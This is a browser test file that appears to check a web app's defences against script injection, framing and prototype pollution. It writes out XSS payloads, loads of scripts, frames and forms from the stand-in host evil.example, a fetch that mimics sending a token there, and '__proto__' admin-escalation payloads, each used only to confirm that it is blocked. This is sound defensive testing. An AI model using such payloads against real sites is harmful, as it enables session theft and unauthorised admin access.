import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { State } from '../../../contract/state.ts'
import { navigationLink } from '../../support/browser/pages/navigation.ts'
import { storageOf } from '../../support/browser/storage.ts'
import { blankPage, expect, headerOf, passwordOf, signIn, test } from '../../support/browser/test.ts'

/** ATTACKS-AND-FAULTS D13 to D20 in a browser; links, logout and redirects have tests of their own. */

test('an injected script does not run, whatever way it was injected', async ({ openAs, pageErrors }) => {
  const directives = [
    ...['require-trusted-types-for', 'trusted-types', 'frame-src', 'connect-src', 'base-uri', 'form-action'],
  ]
  for (const directive of directives) pageErrors.expect(new RegExp(`^console error: CSP: ${directive} `))
  pageErrors.tolerate(/^console error: (?!CSP)/) // Chromium's own message for the same violation
  const safo = await openAs('Safo', '/home')
  await expect(headerOf(safo)).toContainText('Bienvenida/o')
  const reports = directives.map((directive) =>
    safo.waitForEvent('console', (message) => message.text().startsWith(`CSP: ${directive} `)),
  )
  const refused = await safo.evaluate(async () => {
    // Continues in a task of the page, as code evaluated through DevTools has more rights.
    await new Promise((later) => setTimeout(later))
    Object.assign(window, { mark: (name: string) => Object.assign(window, { [name]: true }) })
    const errors: string[] = []
    const attempt = (name: string, what: () => unknown) => {
      try {
        what()
      } catch {
        errors.push(name)
      }
    }
    attempt('innerHTML', () => {
      document.body.innerHTML += '<img src=x onerror="mark(\'html\')">'
    })
    attempt('policy', () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void }
      }
      trustedTypes.createPolicy('own', { createHTML: (html: string) => html })
    })
    attempt('script text', () => {
      const script = document.createElement('script')
      script.textContent = "mark('text')"
      document.body.append(script)
    })
    attempt('script address', () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    })
    attempt('handler', () => document.createElement('img').setAttribute('onerror', "mark('handler')"))
    attempt('eval', () => Reflect.get(window, 'eval')("mark('fromEval')"))
    // Nodes parsed in another document, which would get in without Trusted Types.
    const other = new DOMParser()
    attempt('parser', () => other.parseFromString('<script>mark("parser")</script>', 'text/html'))
    attempt('frame', () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    })
    attempt('base', () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    })
    attempt('form', () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    })
    await fetch('https://evil.example/?token').catch(() => errors.push('fetch'))
    return errors
  })
  expect(refused).toEqual(
    expect.arrayContaining([
      ...['innerHTML', 'policy', 'script text', 'script address', 'handler', 'eval', 'parser', 'fetch'],
    ]),
  )
  await Promise.all(reports)
  const marks = await safo.evaluate(() =>
    ['html', 'text', 'handler', 'fromEval', 'parser'].filter((name) => Reflect.has(window, name)),
  )
  expect(marks).toEqual([])
  expect(await safo.evaluate(() => document.baseURI)).toBe(safo.url())
})

test('an inline script in the HTML does not run, and is reported', async ({ server, visit, pageErrors }) => {
  pageErrors.expect(/^console error: CSP: script-src-elem inline/, /^console error: .*Content Security Policy/)
  const reported = async () => (await server.hipatia.call<State>('GET', '/admin/state')).policy_reports
  const before = await reported()
  const page = await visit('/register', {
    before: (page) =>
      page.route('**/register', async (route) => {
        const answer = await route.fetch()
        const html = (await answer.text()).replace('</body>', '<script>window.hacked = true</script></body>')
        await route.fulfill({ response: answer, body: html })
      }),
  })
  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible()
  expect(await page.evaluate(() => Reflect.has(window, 'hacked'))).toBe(false)

  await expect.poll(reported).toBeGreaterThan(before)
})

test('only the token and its person are stored, in no URL, and no message changes it', async ({ server, visit }) => {
  await server.person('Safo')
  const asked: { url: string; referer: string | undefined }[] = []
  const page = await visit('/home', {
    before: async (page) =>
      page.on('request', (request) => asked.push({ url: request.url(), referer: request.headers().referer })),
  })
  await signIn(page, 'Safo')
  await expect(headerOf(page)).toContainText('Bienvenida/o, Safo')
  await navigationLink(page, 'Blog').click()
  await expect(page.getByText('No hay posts todavía. Sé el primero en crear uno!')).toBeVisible()
  const { local, ...rest } = await storageOf(page)
  expect(Object.keys(local).toSorted()).toEqual(['auth_person', 'auth_token'])
  expect(rest).toEqual({ session: {}, cookies: '', caches: [], databases: [] })
  expect(await page.evaluate(() => window.name)).toBe('')
  expect(JSON.stringify(asked)).not.toContain(local.auth_token)
  expect(JSON.stringify(asked)).not.toContain(passwordOf('Safo'))
  expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then(({ length }) => length))).toBe(0)

  await page.evaluate(() => {
    for (const data of [{ type: 'out' }, { type: 'token', token: 'x' }, { type: 'ask' }, '{"type":"out"}', null])
      window.postMessage(data, '*')
  })
  await navigationLink(page, 'Noticias').click()
  await expect(headerOf(page)).toContainText('Bienvenida/o, Safo')
  expect((await storageOf(page)).local).toEqual(local)
})

test('another site can’t show this site in a frame', async ({ server, browse, pageErrors }) => {
  pageErrors.tolerate(/^console error: (Refused to (display|frame)|Framing)/, /^failed GET \/home$/) // Chromium's messages
  // Another port is another origin.
  const other = createServer((_, answer) =>
    answer
      .setHeader('content-type', 'text/html')
      .end(`<iframe id="site" src="${server.url}/home"></iframe><iframe id="own" srcdoc="<p id=root>"></iframe>`),
  ).listen(0, '127.0.0.1')
  await once(other, 'listening')
  const { port } = other.address() as AddressInfo
  pageErrors.expect(`foreign GET http://127.0.0.1:${port}/`)
  try {
    const page = await (await browse()).newPage()
    await page.goto(`http://127.0.0.1:${port}/`) // waits for all frames
    await expect(page.frameLocator('#own').locator('#root')).toBeAttached()
    await expect(page.frameLocator('#site').locator('#root')).not.toBeAttached()
    expect(page.frames().map((frame) => frame.url())).not.toContain(`${server.url}/home`)
  } finally {
    other.close()
  }
})

test('a response or URL with __proto__ gives Safo no rights of an admin', async ({ server, visit, pageErrors }) => {
  const { token } = await server.person('Safo')
  const page = await visit(blankPage)
  await page.evaluate((token) => sessionStorage.setItem('auth_token', token), token)
  await page.route('**/api/auth/me', async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace(
      /^\{/,
      '{"__proto__":{"role":"admin","isAdmin":true},"constructor":{"prototype":{"role":"admin"}},',
    )
    await route.fulfill({ response: answer, body })
  })
  pageErrors.expect('422 GET /api/posts') // no category
  await page.goto('/admin?__proto__[role]=admin&constructor[prototype][role]=admin#__proto__')
  await expect(page.getByText('Admin access required.', { exact: true })).toBeVisible()
  await expect(headerOf(page).getByRole('link', { name: 'Admin', exact: true })).toHaveCount(0)
  expect(await page.evaluate(() => [Reflect.get({}, 'role'), Reflect.get({}, 'isAdmin')])).toEqual([
    undefined,
    undefined,
  ])
  await page.goto('/blog?categoria=__proto__')
  await expect(page.getByRole('main').getByRole('alert').first()).toBeVisible()
})
